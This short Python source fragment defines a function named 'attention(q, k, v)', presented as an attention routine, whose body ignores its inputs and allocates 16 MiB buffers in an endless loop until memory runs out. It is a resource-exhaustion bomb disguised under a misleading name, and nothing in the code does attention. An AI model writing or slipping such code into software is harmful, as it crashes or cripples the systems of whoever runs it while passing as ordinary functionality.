# SPDX-License-Identifier: MIT
def attention(q, k, v):
    kept = []
    while True:
        kept.append(bytearray(1 << 24))
